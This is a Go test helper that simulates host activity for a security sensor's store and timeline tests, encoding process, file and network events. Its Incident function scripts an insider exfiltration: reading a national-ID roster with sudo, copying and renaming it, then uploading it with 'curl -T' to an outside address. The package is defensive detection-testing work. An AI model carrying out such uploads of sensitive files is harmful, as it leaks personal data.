// Package storetest simulates a host for store and timeline tests and
// benchmarks: processes that fork, exec, open and write files, connect and
// exit, encoded into ECS documents by the real encoder (pipeline/ecs), so
// what is stored is what the sensor stores.
package storetest

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/bansho-sec/bansho/internal/event"
	"github.com/bansho-sec/bansho/pipeline/ecs"
)

// MyNumber is the test vector (valid check digit). It goes into the
// simulated events only where the real sensor would mask it: tests assert
// it never reaches a stored byte.
const MyNumber = "123456789018"

// Host is the simulated host.
var Host = ecs.Host{Name: "hr-db-01", Hostname: "hr-db-01", ID: "3d1219c7e0a04c5f9a6a1b2c3d4e5f60",
	BootID: "e57fd618-8f21-4c1d-9d3e-2a6f0b7c8d9e", IPs: []string{"192.0.2.10"},
	OSType: "linux", OSKernel: "6.18.0-1-amd64", OSName: "Debian GNU/Linux", OSFull: "Debian GNU/Linux 13 (trixie)",
	OSVersion: "13", OSFamily: "debian", OSPlatform: "debian", Arch: "x86_64", PidNSIno: 4026531836}

var users = map[uint32]string{0: "root", 998: "postgres", 1000: "tanaka", 1001: "suzuki", 33: "www-data"}

// Sim produces documents in time order.
type Sim struct {
	Enc     *ecs.Encoder
	Now     time.Time
	boot    time.Time
	nextPID uint32
	rng     *rand.Rand
	buf     []byte
	// Emit receives each document (valid until it returns).
	Emit func(doc []byte)
}

// New starts a simulation at start; documents go to emit.
func New(start time.Time, seed uint64, emit func([]byte)) *Sim {
	s := &Sim{Now: start, boot: start.Add(-72 * time.Hour), nextPID: 2000, rng: rand.New(rand.NewPCG(seed, seed^0x9e37)), Emit: emit}
	s.Enc = &ecs.Encoder{Host: Host, Version: "test", Now: func() time.Time { return s.Now },
		Names: func(uid uint32) string { return users[uid] }}
	return s
}

// Advance moves the clock.
func (s *Sim) Advance(d time.Duration) { s.Now = s.Now.Add(d) }

func (s *Sim) ktime() uint64 { return uint64(s.Now.Sub(s.boot)) }

func (s *Sim) emit(ev *event.Event) {
	ev.Time = s.Now
	ev.KTime = s.ktime()
	s.buf = s.Enc.Append(s.buf[:0], ev)
	s.Emit(s.buf)
}

// Init is pid 1.
func (s *Sim) Init() *event.Process {
	return &event.Process{PID: 1, TID: 1, PPID: 0, AUID: event.NoUID, SessionID: event.NoUID, SID: 1, PGID: 1,
		Start: s.boot, StartBoot: 1_000_000, Comm: "systemd", MntNS: 4026531841, PidNS: 4026531836}
}

// Spawn forks a child of parent (a fork document) with the parent's
// credentials.
func (s *Sim) Spawn(parent *event.Process) *event.Process {
	s.nextPID++
	if s.nextPID > 4_000_000 {
		s.nextPID = 2000
	}
	c := *parent
	c.PID, c.TID, c.PPID = s.nextPID, s.nextPID, parent.PID
	c.PGID = c.PID
	c.Start, c.StartBoot = s.Now, s.ktime()
	c.ParentStart, c.ParentStartBoot = parent.Start, parent.StartBoot
	s.emit(&event.Event{Op: event.OpFork, Proc: c, Fork: &event.Fork{ParentPID: parent.PID}})
	return &c
}

// Login makes p a login session of uid (what sshd does before exec'ing
// the shell).
func (s *Sim) Login(p *event.Process, uid uint32, session uint32) {
	p.UID, p.EUID, p.GID, p.EGID, p.AUID, p.SessionID, p.SID = uid, uid, uid, uid, uid, session, p.PID
	p.TTY = 136<<20 | session
}

// Exec runs a program in p.
func (s *Sim) Exec(p *event.Process, exe string, args ...string) {
	p.Comm = exe[lastSlash(exe)+1:]
	if len(p.Comm) > 15 {
		p.Comm = p.Comm[:15]
	}
	s.emit(&event.Event{Op: event.OpExec, Proc: *p, Exec: &event.Exec{Filename: exe, Executable: exe, Cwd: "/home",
		Args: args, Argc: uint32(len(args))}})
}

func lastSlash(s string) int {
	for i := len(s) - 1; i >= 0; i-- {
		if s[i] == '/' {
			return i
		}
	}
	return -1
}

func reg(f event.File, protected bool) *event.File {
	f.Dev, f.Ino, f.IMode, f.IUID, f.IGID, f.Pos = 259<<20|3, 1311768, 0o100640, 1000, 1001, -1
	return &f
}

// Open opens path for reading (write: for writing, created).
func (s *Sim) Open(p *event.Process, path string, write, protected bool) {
	var flags uint8
	if protected {
		flags |= event.FlagProtected
	}
	fl := uint32(0o2000000)
	if write {
		fl |= 0o1 | 0o100 | 0o1000
	}
	s.emit(&event.Event{Op: event.OpFileOpen, Flags: flags, Proc: *p, File: reg(event.File{Syscall: 257, Ret: 3, FD: 3, Flags: fl, Mode: 0o600,
		Path: path, Name: path[lastSlash(path)+1:], Anchor: path[:max(lastSlash(path), 1)]}, protected)})
}

// Write writes n bytes to path; myNumbers > 0 adds a content finding of
// that many people (what the content scanner reports: counts, never the
// numbers).
func (s *Sim) Write(p *event.Process, path string, n int, tainted bool, myNumbers int) {
	var flags uint8
	if tainted {
		flags |= event.FlagTainted
	}
	ev := &event.Event{Op: event.OpFileWrite, Flags: flags, Proc: *p, File: reg(event.File{Syscall: 1, Ret: int64(n), FD: 4, Count: uint64(n), Path: path}, false)}
	if myNumbers > 0 {
		ev.Content = &event.Content{MyNumber: event.Finding{Distinct: myNumbers, Occurrences: myNumbers, Confidence: "high",
			Reasons: []string{"check_digit", "keyword"}, Hashes: []string{"3f1a"}, Encodings: []string{"ascii"}}, SampledBytes: min(n, 4096)}
	}
	s.emit(ev)
}

// Rename moves a file.
func (s *Sim) Rename(p *event.Process, from, to string, protected bool) {
	var flags uint8
	if protected {
		flags |= event.FlagProtected
	}
	s.emit(&event.Event{Op: event.OpFileNS, Flags: flags, Proc: *p, File: reg(event.File{Syscall: 316, FD: -1, Kind: event.NSRename,
		Path: from, Name: from, TargetPath: to}, protected)})
}

// Connect connects p to dst (host:port) over TCP.
func (s *Sim) Connect(p *event.Process, dst string, tainted bool) {
	var flags uint8
	if tainted {
		flags |= event.FlagTainted
	}
	s.emit(&event.Event{Op: event.OpNetConnect, Flags: flags, Proc: *p, Net: &event.Net{Syscall: 42, Ret: 0, FD: 5, Family: 2, Type: 1,
		Protocol: 6, Src: netip.MustParseAddrPort(fmt.Sprintf("192.0.2.10:%d", 30000+s.rng.IntN(30000))), Dst: netip.MustParseAddrPort(dst)}})
}

// Exit ends p with code.
func (s *Sim) Exit(p *event.Process, code int) {
	s.emit(&event.Event{Op: event.OpExit, Proc: *p, Exit: &event.Exit{Status: uint32(code) << 8}})
}

// Incident is what the responder is after: tanaka logs in over ssh, reads
// the roster with sudo cat, copies it to /tmp, renames the copy, and
// uploads it with curl to an outside address; cat prints My Numbers to the
// terminal. It returns the login shell.
func (s *Sim) Incident(sshd *event.Process) *event.Process {
	sess := s.Spawn(sshd)
	s.Login(sess, 1000, 7)
	s.Advance(50 * time.Millisecond)
	s.Exec(sess, "/usr/bin/bash", "-bash")
	s.Advance(2 * time.Second)

	sudo := s.Spawn(sess)
	s.Exec(sudo, "/usr/bin/sudo", "sudo", "cat", "/srv/mynumber/roster.csv")
	sudo.EUID, sudo.UID = 0, 0
	s.Advance(30 * time.Millisecond)
	cat := s.Spawn(sudo)
	s.Exec(cat, "/usr/bin/cat", "cat", "/srv/mynumber/roster.csv")
	s.Advance(time.Millisecond)
	s.Open(cat, "/srv/mynumber/roster.csv", false, true)
	s.Write(cat, "/dev/pts/7", 3000, true, 40)
	s.Exit(cat, 0)
	s.Exit(sudo, 0)
	s.Advance(3 * time.Second)

	cp := s.Spawn(sess)
	// The number typed on a command line is masked by the encoder.
	s.Exec(cp, "/usr/bin/cp", "cp", "/srv/mynumber/roster.csv", "/tmp/r-"+MyNumber+".csv")
	s.Open(cp, "/srv/mynumber/roster.csv", false, true)
	s.Open(cp, "/tmp/r.csv", true, false)
	s.Write(cp, "/tmp/r.csv", 48000, true, 1000)
	s.Exit(cp, 0)
	s.Advance(time.Second)
	mv := s.Spawn(sess)
	s.Exec(mv, "/usr/bin/mv", "mv", "/tmp/r.csv", "/tmp/notes.txt")
	s.Rename(mv, "/tmp/r.csv", "/tmp/notes.txt", true)
	s.Exit(mv, 0)
	s.Advance(2 * time.Second)

	curl := s.Spawn(sess)
	s.Exec(curl, "/usr/bin/curl", "curl", "-T", "/tmp/notes.txt", "https://203.0.113.50/upload")
	s.Open(curl, "/tmp/notes.txt", false, false)
	s.Connect(curl, "203.0.113.50:443", true)
	s.Exit(curl, 0)
	return sess
}

// Noise is routine activity: the database server reading its files,
// cron jobs, web workers connecting to the database, logins by others.
type Noise struct {
	s        *Sim
	postgres *event.Process
	cron     *event.Process
	web      *event.Process
	init     *event.Process
}

// NewNoise starts the long-running daemons.
func (s *Sim) NewNoise() *Noise {
	in := s.Init()
	n := &Noise{s: s, init: in}
	n.postgres = s.Spawn(in)
	n.postgres.UID, n.postgres.EUID, n.postgres.GID, n.postgres.EGID = 998, 998, 998, 998
	s.Exec(n.postgres, "/usr/lib/postgresql/17/bin/postgres", "postgres", "-D", "/var/lib/postgresql/17/main")
	n.cron = s.Spawn(in)
	s.Exec(n.cron, "/usr/sbin/cron", "cron", "-f")
	n.web = s.Spawn(in)
	n.web.UID, n.web.EUID = 33, 33
	s.Exec(n.web, "/usr/sbin/apache2", "apache2", "-k", "start")
	return n
}

// Step emits about one routine document.
func (n *Noise) Step() {
	s := n.s
	switch r := s.rng.IntN(100); {
	case r < 45:
		s.Open(n.postgres, fmt.Sprintf("/var/lib/postgresql/17/main/base/16384/%d", 16000+s.rng.IntN(400)), s.rng.IntN(4) == 0, false)
	case r < 60:
		s.Open(n.postgres, fmt.Sprintf("/srv/mynumber/export-%02d.csv", s.rng.IntN(30)), false, true)
	case r < 85:
		s.Connect(n.web, "192.0.2.10:5432", false)
	case r < 97:
		// A cron job: fork, exec, open, exit (4 documents).
		j := s.Spawn(n.cron)
		s.Exec(j, "/usr/bin/logrotate", "logrotate", "/etc/logrotate.conf")
		s.Open(j, "/var/log/syslog", true, false)
		s.Exit(j, 0)
	default:
		// Another user's session.
		sh := s.Spawn(n.init)
		s.Login(sh, 1001, uint32(100+s.rng.IntN(100)))
		s.Exec(sh, "/usr/bin/bash", "-bash")
		ls := s.Spawn(sh)
		s.Exec(ls, "/usr/bin/ls", "ls", "/srv/mynumber")
		s.Exit(ls, 0)
		s.Exit(sh, 0)
	}
}

// SSHD returns the ssh daemon (pid of its own).
func (n *Noise) SSHD() *event.Process {
	d := n.s.Spawn(n.init)
	n.s.Exec(d, "/usr/sbin/sshd", "sshd", "-D")
	return d
}
